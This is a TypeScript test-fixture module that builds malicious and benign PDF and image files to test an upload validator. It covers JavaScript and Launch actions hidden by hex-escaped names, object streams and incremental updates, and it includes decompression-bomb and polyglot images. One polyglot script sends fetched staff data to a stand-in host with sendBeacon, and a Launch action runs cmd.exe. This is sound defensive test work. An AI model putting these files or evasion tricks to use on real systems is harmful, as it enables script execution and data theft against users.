/**
 * The upload red-team corpus, made by code (SECURITY.md §10): PDFs that run scripts, launch
 * programs, submit or import data, or carry files — written every way a parser can be fooled
 * (escaped names in either case, compressed object streams, incremental updates, an object
 * stream whose type pdf-lib cannot decode) — and images that are not what they claim. Every
 * "refused" entry must be refused; every "benign" entry must be accepted.
 *
 * PDFs are written byte by byte (`rawPdf`) so that names, streams and cross-reference sections
 * are exactly as an attacker would write them, not as a library would tidy them.
 */
import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString, StandardFonts } from "pdf-lib";
import sharp from "sharp";
import { greyPng } from "./png";

type Objects = Record<number, string | { dict: string; stream: Buffer | string }>;

const latin1 = (text: string) => Buffer.from(text, "latin1");

function objectBytes(num: number, body: Objects[number]): Buffer {
  if (typeof body === "string") return latin1(`${num} 0 obj\n${body}\nendobj\n`);
  const data = typeof body.stream === "string" ? latin1(body.stream) : body.stream;
  return Buffer.concat([latin1(`${num} 0 obj\n${body.dict.replace(/>>\s*$/, ` /Length ${data.length} >>`)}\nstream\n`), data, latin1("\nendstream\nendobj\n")]);
}

/**
 * A PDF with a classic cross-reference table, or — with `compressed` — those objects packed in a
 * Flate-compressed object stream and a cross-reference stream instead of a table.
 */
export function rawPdf(objects: Objects, options: { compressed?: number[]; objStmType?: string } = {}): Buffer {
  const compressed = new Set(options.compressed ?? []);
  const parts: Buffer[] = [latin1("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")];
  let offset = parts[0]!.length;
  const offsets = new Map<number, number>();
  const nums = Object.keys(objects).map(Number).sort((a, b) => a - b);
  const push = (num: number, body: Objects[number]) => {
    const bytes = objectBytes(num, body);
    offsets.set(num, offset);
    parts.push(bytes);
    offset += bytes.length;
  };
  for (const num of nums) if (!compressed.has(num)) push(num, objects[num]!);
  const size = Math.max(...nums) + 3;
  if (compressed.size === 0) {
    const xrefAt = offset;
    let table = `xref\n0 ${size - 2}\n0000000000 65535 f \n`;
    for (let n = 1; n < size - 2; n++) table += offsets.has(n) ? `${String(offsets.get(n)).padStart(10, "0")} 00000 n \n` : "0000000000 65535 f \n";
    parts.push(latin1(`${table}trailer\n<< /Size ${size - 2} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`));
    return Buffer.concat(parts);
  }
  // Object stream: "num offset" pairs, then the objects.
  const packed = [...compressed].sort((a, b) => a - b);
  const bodies = packed.map((n) => objects[n] as string);
  let header = "";
  let body = "";
  packed.forEach((n, i) => {
    header += `${n} ${body.length} `;
    body += `${bodies[i]}\n`;
  });
  const objStmNum = size - 2;
  const data = deflateSync(latin1(header + body));
  push(objStmNum, { dict: `<< /Type ${options.objStmType ?? "/ObjStm"} /N ${packed.length} /First ${header.length} /Filter /FlateDecode >>`, stream: data });
  const xrefNum = size - 1;
  const xrefAt = offset;
  const rows: Buffer[] = [];
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r[0] = type;
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    rows.push(r);
  };
  for (let n = 0; n < size; n++) {
    if (n === xrefNum) row(1, xrefAt, 0);
    else if (offsets.has(n)) row(1, offsets.get(n)!, 0);
    else if (compressed.has(n)) row(2, objStmNum, packed.indexOf(n));
    else row(0, 0, n === 0 ? 65535 : 0);
  }
  push(xrefNum, { dict: `<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode >>`, stream: deflateSync(Buffer.concat(rows)) });
  parts.push(latin1(`startxref\n${xrefAt}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** Appends an incremental update (new or replaced objects, a table with /Prev) to a PDF. */
export function incrementalUpdate(base: Buffer, objects: Objects): Buffer {
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString("latin1"))![1]);
  const parts: Buffer[] = [base];
  let offset = base.length;
  const offsets: [number, number][] = [];
  for (const num of Object.keys(objects).map(Number).sort((a, b) => a - b)) {
    const bytes = objectBytes(num, objects[num]!);
    offsets.push([num, offset]);
    parts.push(bytes);
    offset += bytes.length;
  }
  let table = "xref\n";
  for (const [num, at] of offsets) table += `${num} 1\n${String(at).padStart(10, "0")} 00000 n \n`;
  const size = Math.max(...offsets.map(([n]) => n)) + 1;
  parts.push(latin1(`${table}trailer\n<< /Size ${Math.max(size, 10)} /Root 1 0 R /Prev ${prev} >>\nstartxref\n${offset}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const CONTENT = { dict: "<< >>", stream: "0 0 m 100 100 l S" };
const page = (extra = "") => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << >> ${extra} >>`;
const catalog = (extra = "") => `<< /Type /Catalog /Pages 2 0 R ${extra} >>`;
const PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";

/** A one-page document with extra entries on its catalog and page and extra objects. */
function doc(catalogExtra = "", pageExtra = "", more: Objects = {}, options: Parameters<typeof rawPdf>[1] = {}): Buffer {
  return rawPdf({ 1: catalog(catalogExtra), 2: PAGES, 3: page(pageExtra), 4: CONTENT, ...more }, options);
}

export type CorpusEntry = { name: string; bytes: Buffer; filename: string };

/** Files that must be refused. */
export async function maliciousCorpus(): Promise<CorpusEntry[]> {
  const pdf = (name: string, bytes: Buffer): CorpusEntry => ({ name, bytes, filename: "id.pdf" });
  const image = (name: string, bytes: Buffer, filename = "id.png"): CorpusEntry => ({ name, bytes, filename });
  const js = "app.alert('owned')";
  const attachment = (fsDict: string) => `<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS ${fsDict} /Contents (invoice) >>`;
  const benign = doc();
  return [
    pdf("OpenAction JavaScript", doc("/OpenAction 5 0 R", "", { 5: `<< /Type /Action /S /JavaScript /JS (${js}) >>` })),
    pdf("OpenAction JavaScript, lower-case hex name /#4aavaScript", doc("/OpenAction 5 0 R", "", { 5: `<< /Type /Action /S /#4aavaScript /#4aS (${js}) >>` })),
    pdf("OpenAction JavaScript, mixed-case hex in the key /J#53", doc("/OpenAction << /S /J#61vaScript /J#53 (x) >>")),
    pdf("OpenAction JavaScript inside a compressed object stream", doc("/OpenAction 5 0 R", "", { 5: `<< /S /JavaScript /JS (${js}) >>` }, { compressed: [1, 2, 3, 5] })),
    pdf("lower-case hex escapes inside a compressed object stream", doc("/OpenAction 5 0 R", "", { 5: "<< /S /#4aava#53cript /#4a#53 (x) >>" }, { compressed: [1, 2, 3, 5] })),
    pdf("object stream whose /Type is spelled /Ob#6aStm (pdf-lib cannot see inside)", doc("/OpenAction 5 0 R", "", { 5: `<< /S /JavaScript /JS (${js}) >>` }, { compressed: [5], objStmType: "/Ob#6aStm" })),
    pdf("Launch action, lower-case hex /#4caunch", doc("/OpenAction << /S /#4caunch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")),
    pdf("Launch action on a link annotation", doc("", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (evil.exe) >> >>" })),
    pdf("document-level JavaScript in the Names tree", doc("/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", "", { 5: `<< /S /JavaScript /JS (${js}) >>` })),
    pdf("page additional-actions (AA) running JavaScript", doc("", "/AA << /O << /S /JavaScript /JS (x) >> >>")),
    pdf("catalog additional-actions escaped as /#41A", doc("/#41A << /WC << /S /JavaScript /JS (x) >> >>")),
    pdf("form field with a keystroke script", doc("/AcroForm << /Fields [5 0 R] >>", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 100 30] /P 3 0 R /AA << /K << /S /JavaScript /JS (x) >> >> >>" })),
    pdf("link to a javascript: URI", doc("", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (javascript:alert(1)) >> >>" })),
    pdf("file-attachment annotation whose stream omits /Type /EmbeddedFile", doc("", "/Annots [5 0 R]", { 5: attachment("<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"), 6: { dict: "<< >>", stream: "MZ payload" } })),
    pdf("file-attachment annotation, no /EF at all, escaped subtype /Fil#65Attachment", doc("", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /Fil#65Attachment /Rect [10 10 30 30] /FS (a.exe) >>" })),
    pdf("embedded files in the Names tree", doc("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", "", { 5: "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", 6: { dict: "<< /Type /EmbeddedFile >>", stream: "MZ payload" } })),
    pdf("embedded files, escaped as /Embedded#46iles", doc("/Names << /Embedded#46iles << /Names [(a.exe) 5 0 R] >> >>", "", { 5: "<< /Type /Filespec /F (a.exe) /E#66 << /F 6 0 R >> >>", 6: { dict: "<< >>", stream: "MZ" } })),
    pdf("associated files (/AF) on the catalog", doc("/AF [5 0 R]", "", { 5: "<< /Type /Filespec /F (data.xml) /AFRelationship /Data >>" })),
    pdf("XFA form", doc("/AcroForm << /Fields [] /XFA 5 0 R >>", "", { 5: { dict: "<< >>", stream: "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>" } })),
    pdf("XFA form, escaped /#58FA", doc("/AcroForm << /Fields [] /#58#46#41 5 0 R >>", "", { 5: { dict: "<< >>", stream: "<xdp:xdp/>" } })),
    pdf("RichMedia annotation", doc("", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << >> >>" })),
    pdf("Screen annotation with a rendition action", doc("", "/Annots [5 0 R]", { 5: "<< /Type /Annot /Subtype /Screen /Rect [0 0 100 100] /A << /S /Rendition /OP 0 >> >>" })),
    pdf("portfolio (/Collection)", doc("/Collection << /Type /Collection >>")),
    pdf("SubmitForm action", doc("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")),
    pdf("ImportData action", doc("/OpenAction << /S /ImportData /F (data.fdf) >>")),
    pdf("GoToR (remote file) action", doc("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
    pdf("GoToE (embedded file) action", doc("/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")),
    pdf("JavaScript chained through /Next of a harmless action", doc("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>")),
    pdf("JavaScript added by an incremental update", incrementalUpdate(benign, { 1: catalog("/OpenAction 5 0 R"), 5: `<< /S /JavaScript /JS (${js}) >>` })),
    pdf("JavaScript in an older revision that a later update replaced (still refused)", incrementalUpdate(doc("/OpenAction 5 0 R", "", { 5: `<< /S /JavaScript /JS (${js}) >>` }), { 1: catalog() })),
    pdf("lower-case escapes added by an incremental update", incrementalUpdate(benign, { 3: page("/AA << /O << /S /#4aavaScript /#4aS (x) >> >>") })),
    pdf("password-protected (encrypted)", encryptedPdf()),
    pdf("not a PDF after its header", Buffer.concat([latin1("%PDF-1.7\n"), Buffer.alloc(2048, 0x41)])),
    pdf("truncated PDF", benign.subarray(0, Math.floor(benign.length / 2))),
    pdf("51 pages (the limit is 50)", await pagesPdf(51)),
    image("PNG header, then not an image", Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), latin1("<html><script>alert(1)</script></html>"), Buffer.alloc(4096, 0x20)])),
    image("PNG whose image data is corrupt", corruptPng()),
    image("JPEG header, then HTML", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), latin1("<html><script>alert(1)</script></html>"), Buffer.alloc(4096, 0x20)]), "id.jpg"),
    image("PNG that claims 30,000 × 30,000 pixels (decompression bomb)", pngHeaderOnly(30_000, 30_000)),
    image("PNG 13,000 pixels wide", pngHeaderOnly(13_000, 300)),
    image("image too small to read (50 × 50)", greyPng(50, 50)),
    image("GIF renamed .png", Buffer.concat([latin1("GIF89a"), Buffer.from([1, 0, 1, 0, 0, 0, 0]), latin1(",\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;")])),
    image("SVG with a script, named .png", latin1(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)),
    image("HTML named .png", latin1("<!doctype html><script>alert(1)</script>")),
    image("a WebP photo (not an accepted format)", await sharp({ create: { width: 300, height: 300, channels: 3, background: "#888" } }).webp().toBuffer(), "id.png"),
  ];
}

/** Files that must be accepted (and, for images, stored re-encoded). */
export async function benignCorpus(): Promise<CorpusEntry[]> {
  const pdfLib = await PDFDocument.create();
  const font = await pdfLib.embedFont(StandardFonts.Helvetica);
  pdfLib.addPage([300, 200]).drawText("Driver's license", { x: 20, y: 100, size: 12, font });
  const form = pdfLib.getForm();
  form.createTextField("name").addToPage(pdfLib.getPage(0), { x: 20, y: 20, width: 200, height: 20 });
  pdfLib.setTitle("Scan");
  const withLink = await PDFDocument.create();
  const linkPage = withLink.addPage([300, 200]);
  linkPage.node.set(PDFName.of("Annots"), withLink.context.obj([withLink.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 20], A: { S: "URI", URI: PDFString.of("https://www.example.org/") } })]));
  return [
    { name: "a one-page PDF written by hand", bytes: doc(), filename: "scan.pdf" },
    { name: "a PDF that opens at its first page (/OpenAction [page /Fit])", bytes: doc("/OpenAction [3 0 R /Fit]"), filename: "scan.pdf" },
    { name: "a PDF with compressed object streams", bytes: doc("", "", {}, { compressed: [1, 2, 3] }), filename: "scan.pdf" },
    { name: "a PDF with a 'Screen' blend mode (a name, not a screen annotation)", bytes: rawPdf({ 1: catalog(), 2: PAGES, 3: page("/Group << /S /Transparency >>").replace("/Resources << >>", "/Resources << /ExtGState << /G << /BM /Screen >> >> >>"), 4: CONTENT }), filename: "scan.pdf" },
    { name: "a PDF with an incremental update that adds a page label", bytes: incrementalUpdate(doc(), { 1: catalog("/PageLabels << /Nums [0 << /S /D >>] >>") }), filename: "scan.pdf" },
    { name: "a PDF with text, a form field and metadata (pdf-lib, object streams)", bytes: Buffer.from(await pdfLib.save({ useObjectStreams: true })), filename: "form.pdf" },
    { name: "a PDF with a link to a web page", bytes: Buffer.from(await withLink.save()), filename: "letter.pdf" },
    { name: "50 pages (the limit)", bytes: await pagesPdf(50), filename: "records.pdf" },
    { name: "a PNG photo", bytes: greyPng(400, 300), filename: "id.png" },
    { name: "a JPEG photo with EXIF (GPS) metadata", bytes: await jpegWithExif(), filename: "id.jpg" },
    { name: "a PNG with an HTML payload appended after IEND (polyglot; stored without it)", bytes: pngPolyglot(), filename: "id.png" },
  ];
}

/** The script a polyglot image carries after its image data. */
export const POLYGLOT_PAYLOAD = "<html><script>fetch('/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></html>";

export function pngPolyglot(): Buffer {
  return Buffer.concat([greyPng(400, 300), latin1(POLYGLOT_PAYLOAD)]);
}

export const EXIF_CANARY = "CANARY-GPS-41.8781N-87.6298W";

export async function jpegWithExif(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 120, g: 130, b: 140 } } })
    .jpeg()
    .withExif({ IFD0: { ImageDescription: EXIF_CANARY, Artist: EXIF_CANARY } })
    .toBuffer();
}

async function pagesPdf(pages: number): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  for (let i = 0; i < pages; i++) pdf.addPage([200, 200]);
  return Buffer.from(await pdf.save());
}

/** A PDF with a standard security handler entry in its trailer (as any encrypted PDF has). */
function encryptedPdf(): Buffer {
  const plain = doc().toString("latin1");
  const encrypt = "5 0 obj\n<< /Filter /Standard /V 2 /R 3 /Length 128 /O <" + "00".repeat(32) + "> /U <" + "00".repeat(32) + "> /P -4 >>\nendobj\n";
  const xrefAt = plain.indexOf("xref\n");
  const before = plain.slice(0, xrefAt) + encrypt;
  const offsets = [...before.matchAll(/(\d+) 0 obj\n/g)].map((m) => [Number(m[1]), m.index!] as const);
  let table = "xref\n0 6\n0000000000 65535 f \n";
  for (let n = 1; n <= 5; n++) table += `${String(offsets.find(([k]) => k === n)![1]).padStart(10, "0")} 00000 n \n`;
  return latin1(`${before}${table}trailer\n<< /Size 6 /Root 1 0 R /Encrypt 5 0 R /ID [<${"11".repeat(16)}> <${"11".repeat(16)}>] >>\nstartxref\n${before.length}\n%%EOF\n`);
}

function corruptPng(): Buffer {
  const png = greyPng(400, 300);
  // Keep the signature and IHDR; overwrite the compressed image data with noise.
  for (let i = 41; i < png.length - 20; i++) png[i] = (i * 7919) & 0xff;
  return png;
}

/** A PNG whose header claims a size but whose data is one tiny row (the bomb is refused by its header). */
function pngHeaderOnly(width: number, height: number): Buffer {
  const small = greyPng(1, 1);
  small.writeUInt32BE(width, 16);
  small.writeUInt32BE(height, 20);
  // Fix the IHDR CRC so the header itself is valid.
  const crc = crc32(small.subarray(12, 29));
  small.writeUInt32BE(crc, 29);
  return small;
}

function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const b of buf) {
    c ^= b;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  }
  return (c ^ 0xffffffff) >>> 0;
}
